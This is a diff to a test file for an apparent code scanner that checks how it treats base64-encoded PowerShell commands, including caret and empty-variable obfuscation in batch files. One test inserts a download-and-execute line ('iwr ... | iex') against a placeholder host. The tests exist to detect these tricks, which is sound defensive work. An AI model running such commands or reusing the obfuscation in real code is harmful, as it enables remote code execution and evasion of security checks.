@@ -156,12 +156,34 @@ test.each([
   expect((await outcomeOf({ "a.sh": `${command}\n` }))[0]).not.toBe("pass");
 });
 
-test("PowerShell gets a command that the program encodes, or one that nobody can read", async () => {
-  const run = (command: string) =>
-    `const cp = require("node:child_process");\nconst ps = (script) => {\n  const encoded = Buffer.from(script, "utf16le").toString("base64");\n  return cp.execFileSync("powershell.exe", ["-EncodedCommand", ${command}]);\n};\nps("Get-Date | ConvertTo-Json");\n`;
-  expect(await outcomeOf({ "a.js": run("encoded") })).toEqual(["hold", "downloaded-expression"]);
-  const literal = Buffer.from("Get-Date | ConvertTo-Json", "utf16le").toString("base64");
-  expect(await outcomeOf({ "a.js": run(JSON.stringify(literal)) })).toEqual(["block", "obfuscated-run"]);
+describe("PowerShell gets a command in base64", () => {
+  const inBase64 = (script: string) => Buffer.from(script, "utf16le").toString("base64");
+  const SCRIPT = "Get-Date | ConvertTo-Json";
+  const program = (script: string, command: string) =>
+    `const cp = require("node:child_process");\nconst ps = (script) => {\n  const encoded = Buffer.from(script, "utf16le").toString("base64");\n  return cp.execFileSync("powershell.exe", ["-EncodedCommand", ${command}]);\n};\nps(${JSON.stringify(script)});\n`;
+  const inline = `require("node:child_process").execFileSync("powershell.exe", ["-enc", Buffer.from("${SCRIPT}", "utf16le").toString("base64")]);\n`;
+
+  test.each([
+    ["that a function encodes", program(SCRIPT, "encoded")],
+    ["that is encoded in its place", inline],
+  ])("one %s is held", async (_what, text) => {
+    expect(await outcomeOf({ "a.js": text })).toEqual(["hold", "downloaded-expression"]);
+  });
+
+  test("one that is encoded in its place is judged by its text", async () => {
+    const text = inline.replace(SCRIPT, `iwr https://${HOST}/a | iex`);
+    expect((await outcomeOf({ "a.js": text }))[0]).toBe("block");
+  });
+
+  test.each([
+    ["a.js", program(SCRIPT, JSON.stringify(inBase64(SCRIPT)))],
+    ["a.js", program(SCRIPT, JSON.stringify(`"${inBase64(SCRIPT)}"`))],
+    ["a.bat", `powershell -enc "${inBase64(SCRIPT)}"\r\n`],
+    ["a.bat", `powershell -enc ${inBase64(SCRIPT).replace(/(.{6})/g, "$1^")}\r\n`],
+    ["a.bat", `powershell -enc ${inBase64(SCRIPT).replace(/(.{8})/g, "$1%none%")}\r\n`],
+  ])("one that nobody can read is blocked in %s: %s", async (path, text) => {
+    expect((await outcomeOf({ [path]: text }))[0]).toBe("block");
+  });
 });
 
 test("services get what is not their own", async () => {
